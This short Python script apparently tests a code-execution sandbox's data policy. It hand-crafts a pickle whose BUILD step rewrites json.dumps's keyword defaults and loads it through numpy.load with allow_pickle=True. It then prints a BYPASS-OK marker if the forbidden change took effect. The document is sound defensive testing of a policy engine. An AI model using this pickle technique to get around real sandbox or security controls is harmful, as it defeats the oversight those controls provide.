# (data policy) A pickle's BUILD sets attributes by the names in its state with setattr: here
# json.dumps's __kwdefaults__ (a write the static rules refuse), from numpy's own frame. Any
# library function's defaults can be rewritten for the rest of the job this way.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "120_numpy_pickle_build_defaults"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import json

import numpy

with open("data.pkl", "wb") as f:
    f.write(b'\x80\x02cjson\ndumps\nN}X\x0e\x00\x00\x00__kwdefaults__}q\x00(X\x08\x00\x00\x00skipkeysq\x01\x89X\x0c\x00\x00\x00ensure_asciiq\x02\x88X\x0e\x00\x00\x00check_circularq\x03\x88X\t\x00\x00\x00allow_nanq\x04\x88X\x03\x00\x00\x00clsq\x05NX\x06\x00\x00\x00indentq\x06NX\n\x00\x00\x00separatorsq\x07NX\x07\x00\x00\x00defaultq\x08NX\t\x00\x00\x00sort_keysq\t\x88us\x86b.')
numpy.load("data.pkl", allow_pickle=True)
if json.dumps({"b": 1, "a": 2}).startswith('{"a"'):
    won(json.dumps({"b": 1, "a": 2}))
